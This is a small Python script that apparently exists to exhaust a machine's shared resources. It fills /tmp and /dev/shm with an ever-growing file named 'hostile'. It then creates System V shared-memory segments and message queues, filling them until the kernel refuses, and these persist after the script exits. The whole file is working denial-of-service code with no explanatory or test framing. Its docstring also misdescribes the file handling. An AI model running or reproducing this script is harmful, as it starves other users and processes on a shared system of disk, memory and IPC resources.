"""Fills every place it can write to, with files and with what needs none; then goes on."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
IPC_CREAT = 0o1000
DIRTY = ctypes.create_string_buffer(b"x" * 4000)


def fill(folder):
    """With files of no name that stay open, until there is no room."""
    try:
        file = os.open(f"{folder}/hostile", os.O_CREAT | os.O_WRONLY, 0o600)
        while True:
            os.write(file, b"x" * (1 << 16))
    except OSError as error:
        print(f"{folder}: {error.strerror}")


def segments():
    """Shared memory that outlives whoever made it."""
    libc.shmat.restype = ctypes.c_void_p
    made = 0
    while (segment := libc.shmget(0, 1 << 20, IPC_CREAT | 0o600)) >= 0:
        ctypes.memset(libc.shmat(segment, None, 0), 1, 1 << 20)
        made += 1
    print("segments:", os.strerror(ctypes.get_errno()))


def queues():
    """The same of messages."""
    made = 0
    while (queue := libc.msgget(0, IPC_CREAT | 0o600)) >= 0:
        while libc.msgsnd(queue, DIRTY, 3000, 0o4000) == 0:
            pass
        made += 1
    print("queues:", os.strerror(ctypes.get_errno()))


for place in "/tmp", "/dev/shm":
    fill(place)
segments()
queues()
